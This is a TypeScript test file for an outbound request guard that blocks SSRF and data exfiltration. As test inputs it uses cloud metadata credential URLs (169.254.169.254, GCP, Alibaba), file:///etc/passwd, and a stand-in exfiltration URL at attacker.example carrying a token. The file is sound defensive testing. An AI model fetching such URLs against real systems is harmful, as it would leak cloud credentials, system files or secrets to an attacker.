import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createEmulator } from "../../../src/emulator/create-emulator.js";
import type { FetchLike } from "../../../src/net/fetch-like.js";
import type { ResolveHost } from "../../../src/net/resolve-host.js";
import { guardResolveHost } from "../../../src/runtime/outbound/guard-resolve-host.js";
import { createOutboundGuard } from "../../../src/runtime/outbound/outbound-guard.js";
import { OutboundRefusedError } from "../../../src/runtime/outbound/outbound-policy.js";
import { NON_GLOBAL_IPV4, NON_GLOBAL_IPV6 } from "../../support/special-addresses.js";

/** A loopback server that records what reaches it and answers by path (redirects on /to/<url>). */
function startServer() {
  const seen: { method: string; url: string; authorization: string | undefined; body: string }[] = [];
  const server: Server = createServer(async (request: IncomingMessage, response) => {
    let body = "";
    for await (const chunk of request) body += chunk;
    seen.push({
      method: request.method ?? "",
      url: request.url ?? "",
      authorization: request.headers.authorization,
      body,
    });
    const redirect = /^\/(\d{3})\/(.+)$/.exec(request.url ?? "");
    if (redirect) {
      response.writeHead(Number(redirect[1]), { location: decodeURIComponent(redirect[2] ?? "") });
      response.end();
      return;
    }
    response.end(`${request.method} ${request.url}`);
  });
  return {
    seen,
    start: () =>
      new Promise<string>((resolve) =>
        server.listen(0, "127.0.0.1", () => resolve(`127.0.0.1:${(server.address() as AddressInfo).port}`)),
      ),
    stop: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

const allowed = startServer();
const other = startServer();
let allowedHost = "";
let otherHost = "";
beforeAll(async () => {
  allowedHost = await allowed.start();
  otherHost = await other.start();
});
afterAll(async () => {
  await allowed.stop();
  await other.stop();
});

function guard(options: { allowWrites?: boolean; hosts?: string[] } = {}): FetchLike {
  return createOutboundGuard(createEmulator().fetch, {
    allowedHosts: options.hosts ?? [allowedHost],
    allowWrites: options.allowWrites ?? false,
  });
}

describe("createOutboundGuard", () => {
  test("the embedded emulators are always reachable, writes included", async () => {
    const fetch = createOutboundGuard(createEmulator().fetch, { allowedHosts: [], allowWrites: false });
    const created = await fetch("http://events.tooldeck.internal/events", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ name: "n", date: "2024-07-15T10:00:00Z", location: "l" }),
    });
    expect(created.status).toBe(201);
    expect((await fetch("http://localhost:5566/events/1", { method: "DELETE" })).status).toBe(204);
  });

  test.each([
    [
      "cloud metadata",
      "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
      "169.254.169.254",
    ],
    ["GCP metadata", "http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal"],
    ["another host", "https://attacker.example/exfil?token=x", "attacker.example"],
    ["IPv6 loopback", "http://[::1]:8080/", "[::1]:8080"],
  ])("refuses %s before sending", async (_name, url, host) => {
    let sent = false;
    const inner: FetchLike = async () => {
      sent = true;
      return new Response("");
    };
    const fetch = createOutboundGuard(inner, { allowedHosts: ["api.example.com"], allowWrites: true });
    await expect(fetch(url)).rejects.toThrow(
      new OutboundRefusedError(
        `refused: host ${host} is not allowed (tooldeck calls only the embedded emulators, --base-url's host and --allow-host hosts; allow it with --allow-host ${host})`,
      ),
    );
    expect(sent).toBe(false);
  });

  describe("metadata and special-purpose addresses are refused unless named, in every spelling", () => {
    const notAllowed = (host: string) =>
      `refused: host ${host} is not allowed (tooldeck calls only the embedded emulators, --base-url's host and --allow-host hosts; allow it with --allow-host ${host})`;
    const spellings = [
      ...NON_GLOBAL_IPV4.flatMap(([, address]) => [address, `[::ffff:${address}]`, `[64:ff9b::${address}]`]),
      ...NON_GLOBAL_IPV6.map(([, address]) => `[${address}]`),
    ];

    test.each(spellings)("http://%s/ is refused before sending", async (host) => {
      const sent: string[] = [];
      const inner: FetchLike = async (input) => {
        sent.push(String(input));
        return new Response("");
      };
      const fetch = createOutboundGuard(inner, { allowedHosts: [allowedHost], allowWrites: true });
      const { host: written } = new URL(`http://${host}/latest/meta-data/`);
      await expect(fetch(`http://${host}/latest/meta-data/`)).rejects.toThrow(
        new OutboundRefusedError(notAllowed(written)),
      );
      expect(sent).toEqual([]);
    });

    test("a name that resolves to one is refused without a DNS query", async () => {
      const asked: string[] = [];
      const resolve: ResolveHost = async (hostname) => {
        asked.push(hostname);
        return ["100.100.100.200"];
      };
      const policy = { allowedHosts: [allowedHost], allowWrites: false };
      const inner: FetchLike = () => Promise.reject(new Error("sent"));
      await expect(createOutboundGuard(inner, policy)("http://metadata.attacker.example/")).rejects.toThrow(
        notAllowed("metadata.attacker.example"),
      );
      expect(await guardResolveHost(policy, resolve)("metadata.attacker.example")).toBeUndefined();
      expect(asked).toEqual([]);
    });

    test("a redirect from the named host to Alibaba Cloud's metadata address is refused", async () => {
      const sent: string[] = [];
      const inner: FetchLike = (input, init) => {
        sent.push(String(input));
        return globalThis.fetch(input, init);
      };
      const fetch = createOutboundGuard(inner, { allowedHosts: [allowedHost], allowWrites: false });
      const first = `http://${allowedHost}/302/${encodeURIComponent("http://100.100.100.200/latest/meta-data/")}`;
      await expect(fetch(first)).rejects.toThrow(notAllowed("100.100.100.200"));
      expect(sent).toEqual([first]);
    });

    test("named, an address is reached as named: --allow-host lifts the guard, loopback included", async () => {
      const inner: FetchLike = async (input) => new Response(String(input));
      const fetch = createOutboundGuard(inner, { allowedHosts: ["100.64.0.1"], allowWrites: false });
      expect(await (await fetch("http://100.64.0.1/x")).text()).toBe("http://100.64.0.1/x");
      await expect(fetch("http://[::ffff:100.64.0.1]/x")).rejects.toThrow(OutboundRefusedError);
      const response = await guard({ hosts: ["127.0.0.1"] })(`http://${otherHost}/x`);
      expect(response.status).toBe(200);
    });
  });

  test("refuses URLs that are not http(s)", async () => {
    await expect(guard()("file:///etc/passwd")).rejects.toThrow("refused: file: URLs are never fetched");
  });

  test("a named host:port is reached; a bare host name names every port", async () => {
    const response = await guard()(`http://${allowedHost}/events`);
    expect(await response.text()).toBe("GET /events");
    const byName = await guard({ hosts: ["127.0.0.1"] })(`http://${otherHost}/x`);
    expect(byName.status).toBe(200);
  });

  test("an IPv6 host may be named with or without its brackets", async () => {
    const inner: FetchLike = async (input) => new Response(String(input));
    for (const named of ["::1", "[::1]", "[::1]:8080"]) {
      const fetch = createOutboundGuard(inner, { allowedHosts: [named], allowWrites: false });
      expect(await (await fetch("http://[::1]:8080/x")).text()).toBe("http://[::1]:8080/x");
    }
  });

  test("a write to a real host needs allowWrites; nothing is sent without it", async () => {
    const before = allowed.seen.length;
    await expect(guard()(`http://${allowedHost}/events/1`, { method: "DELETE" })).rejects.toThrow(
      `refused: DELETE to ${allowedHost}: writes to a real service need --allow-writes`,
    );
    expect(allowed.seen.length).toBe(before);
    const response = await guard({ allowWrites: true })(`http://${allowedHost}/events/1`, {
      method: "DELETE",
    });
    expect(await response.text()).toBe("DELETE /events/1");
  });

  test("a Request object is judged like a URL", async () => {
    await expect(guard()(new Request(`http://${otherHost}/x`))).rejects.toThrow(OutboundRefusedError);
    const response = await guard({ allowWrites: true })(
      new Request(`http://${allowedHost}/r`, { method: "POST", body: "payload" }),
    );
    expect(await response.text()).toBe("POST /r");
    expect(allowed.seen.at(-1)?.body).toBe("payload");
  });

  test("every redirect hop is judged: a 302 to another host is refused and never reached", async () => {
    const before = other.seen.length;
    const target = encodeURIComponent(`http://${otherHost}/stolen`);
    await expect(guard()(`http://${allowedHost}/302/${target}`)).rejects.toThrow(
      `refused: host ${otherHost} is not allowed`,
    );
    expect(other.seen.length).toBe(before);
  });

  test("a redirect to the cloud metadata address is refused", async () => {
    const target = encodeURIComponent("http://169.254.169.254/latest/meta-data/");
    await expect(guard()(`http://${allowedHost}/307/${target}`)).rejects.toThrow(
      "refused: host 169.254.169.254 is not allowed",
    );
  });

  test("a redirect within the allowed host is followed; 303 turns a POST into a GET without body", async () => {
    const response = await guard({ allowWrites: true })(`http://${allowedHost}/303/%2Fdone`, {
      method: "POST",
      body: "secret body",
    });
    expect(await response.text()).toBe("GET /done");
    expect(allowed.seen.at(-1)).toMatchObject({ method: "GET", body: "" });
  });

  test("307 keeps the method and body", async () => {
    const response = await guard({ allowWrites: true })(`http://${allowedHost}/307/%2Fagain`, {
      method: "PUT",
      body: "kept",
    });
    expect(await response.text()).toBe("PUT /again");
    expect(allowed.seen.at(-1)?.body).toBe("kept");
  });

  test("Authorization is dropped when a redirect leaves the origin, kept within it", async () => {
    const fetch = guard({ hosts: [allowedHost, otherHost] });
    const headers = { authorization: "Bearer s3cret" };
    await fetch(`http://${allowedHost}/302/%2Fsame`, { headers });
    expect(allowed.seen.at(-1)).toMatchObject({ url: "/same", authorization: "Bearer s3cret" });
    await fetch(`http://${allowedHost}/302/${encodeURIComponent(`http://${otherHost}/elsewhere`)}`, {
      headers,
    });
    expect(other.seen.at(-1)).toMatchObject({ url: "/elsewhere", authorization: undefined });
  });

  test("redirect: manual is passed through, so the caller sees the 3xx (Flowise follows by hand)", async () => {
    const target = encodeURIComponent(`http://${otherHost}/x`);
    const response = await guard()(`http://${allowedHost}/302/${target}`, { redirect: "manual" });
    expect(response.status).toBe(302);
  });
});
